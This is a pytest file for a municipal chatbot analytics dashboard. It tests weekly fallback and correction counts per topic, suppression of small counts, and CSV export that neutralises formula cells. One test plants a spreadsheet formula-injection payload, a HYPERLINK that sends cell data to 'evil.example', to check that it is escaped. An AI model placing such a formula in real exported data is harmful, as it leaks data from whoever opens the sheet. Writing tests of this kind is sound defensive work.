"""Per-topic fallback and corrections over time, and CSV cells that never run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest

from bot.analytics.tables import UnansweredQuestion
from bot.dashboard import charts, queries
from bot.dashboard.csvsafe import DANGEROUS, safe_cell, to_csv
from bot.dashboard.queries import Scope
from bot.storage.db import open_database
from tests.dashboard.conftest import ANALYST_A, NOW, add_question, login_as, store

AMS = ZoneInfo("Europe/Amsterdam")
EARLY, LATE = NOW - timedelta(days=15), NOW - timedelta(days=1)


def week(t):  # type: ignore[no-untyped-def]
    y, w, _ = t.astimezone(AMS).isocalendar()
    return f"{y}-W{w:02d}"


def received(code: str, topic: str | None, confidence: float, at, n: int) -> list[dict]:  # type: ignore[no-untyped-def,type-arg]
    return [
        {
            "name": "message.received",
            "occurred_at": at + timedelta(minutes=i),
            "municipality_code": code,
            "conversation_ref": f"{code}-{topic}-{at.day}-{i}",
            "channel": "whatsapp",
            "topic": topic,
            "confidence": confidence,
            "data": {"intent": topic or "nlu_fallback"},
        }
        for i in range(n)
    ]


async def reviewed(url: str, code: str, guess: str | None, label: str | None, at, n: int) -> None:  # type: ignore[no-untyped-def]
    for i in range(n):
        qid = await add_question(url, f"vraag {guess} {label} {i}", code, guess=guess, at=at)
        if label is None:
            continue
        async with open_database(url) as (_e, factory), factory() as s:
            q = await s.get(UnansweredQuestion, qid)
            q.review_label, q.reviewed_at, q.reviewed_by = label, NOW, 1
            await s.commit()


@pytest.fixture
async def history(db_url):  # type: ignore[no-untyped-def]
    events = [
        *received("GM0014", "debt_help", 0.9, EARLY, 7),
        *received("GM0014", "debt_help", 0.3, EARLY, 2),  # unsure: a question, not an answer
        *received("GM0014", "debt_help", 0.95, LATE, 12),
        *received("GM0014", None, 0.2, LATE, 3),  # fallbacks carry no topic
        *received("GM0034", "debt_help", 0.9, EARLY, 40),  # other municipality
    ]
    await store(db_url, events)
    await reviewed(db_url, "GM0014", "nlu_fallback", "debt_help", EARLY, 6)
    await reviewed(db_url, "GM0014", "rent_housing", "debt_help", EARLY, 2)
    await reviewed(db_url, "GM0014", "debt_help", "debt_help", EARLY, 1)
    await reviewed(db_url, "GM0014", "out_of_scope", "out_of_scope", EARLY, 5)
    await reviewed(db_url, "GM0014", "nlu_fallback", "debt_help", LATE, 1)
    await reviewed(db_url, "GM0014", "out_of_scope", "rent_housing", LATE, 1)
    await reviewed(db_url, "GM0014", "nlu_fallback", None, LATE, 3)
    await reviewed(db_url, "GM0034", "nlu_fallback", "debt_help", LATE, 9)
    return db_url


async def test_fallback_and_corrections_per_topic_over_time(history) -> None:  # type: ignore[no-untyped-def]
    scope = Scope(("GM0014",), NOW - timedelta(days=30), NOW + timedelta(seconds=1))
    async with open_database(history) as (_e, factory), factory() as s:
        events = await queries.load_events(s, scope)
        questions = await queries.unanswered(s, scope, include_handled=True)
    table = queries.learning_table(events, questions, "week")
    early, late = week(EARLY), week(LATE)
    # periode, onderwerp, beantwoord, teruggevallen, gecorrigeerd, bevestigd
    assert table.rows == [
        [early, "debt_help", 7, 6, 2, 1],
        [early, "out_of_scope", 0, 0, 0, 5],
        [late, "debt_help", 12, 1, 0, 0],
        [late, "rent_housing", 0, 1, 0, 0],
        [late, "not_reviewed", 0, 3, 0, 0],
    ]
    shown = charts.display_rows(table)
    assert shown[0] == [early, "Schulden", 7, 6, "<5", "<5"]
    assert shown[1] == [early, "Buiten ons onderwerp", 0, 0, 0, 5]
    assert shown[4] == [late, "Nog niet beoordeeld", 0, "<5", 0, 0]
    svg = charts.bar_chart(table, (0, 1), 3, latest=True)
    assert "Schulden" in svg and "debt_help" not in svg


async def test_learning_figure_on_the_page_and_in_csv(dashboard, history) -> None:  # type: ignore[no-untyped-def]
    await login_as(dashboard, ANALYST_A)
    page = await (await dashboard.get("/dashboard/?dagen=30")).text()
    assert 'id="learning"' in page and "Terugval en correcties per onderwerp" in page
    body = await (await dashboard.get("/dashboard/csv/learning.csv?dagen=30")).text()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == [
        "periode",
        "onderwerp",
        "beantwoord",
        "teruggevallen",
        "gecorrigeerd",
        "bevestigd",
    ]
    schulden = [r for r in rows[1:] if r[1] == "Schulden"]
    assert [r[2:] for r in schulden] == [["7", "6", "<5", "<5"], ["12", "<5", "0", "0"]]
    assert not any(r[2] == "40" or r[3] == "9" for r in rows)  # nothing of GM0034


def test_csv_cells_are_neutralised() -> None:
    for start in DANGEROUS:
        assert safe_cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert safe_cell("gewone tekst") == "gewone tekst" and safe_cell(-3) == -3
    body = to_csv(["=kop", "b"], [["@cmd", "+1"], ["-2", "\tx"], ["\r=y", 5]])
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert cells == ["'=kop", "b", "'@cmd", "'+1", "'-2", "'\tx", "'\r=y", "5"]


async def test_a_question_cell_starting_with_a_formula_is_neutralised(dashboard, db_url) -> None:  # type: ignore[no-untyped-def]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik") kwijtschelding aanvragen'
    for i in range(5):  # five residents: the example sentence is shown, so it reaches the CSV
        await add_question(db_url, formula, "GM0014", ref=f"r{i}")
    await login_as(dashboard, ANALYST_A)
    body = await (await dashboard.get("/dashboard/csv/unanswered.csv")).text()
    rows = list(csv.reader(io.StringIO(body)))
    examples = [r[1] for r in rows[1:]]
    assert examples == ["'" + formula]
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS), value
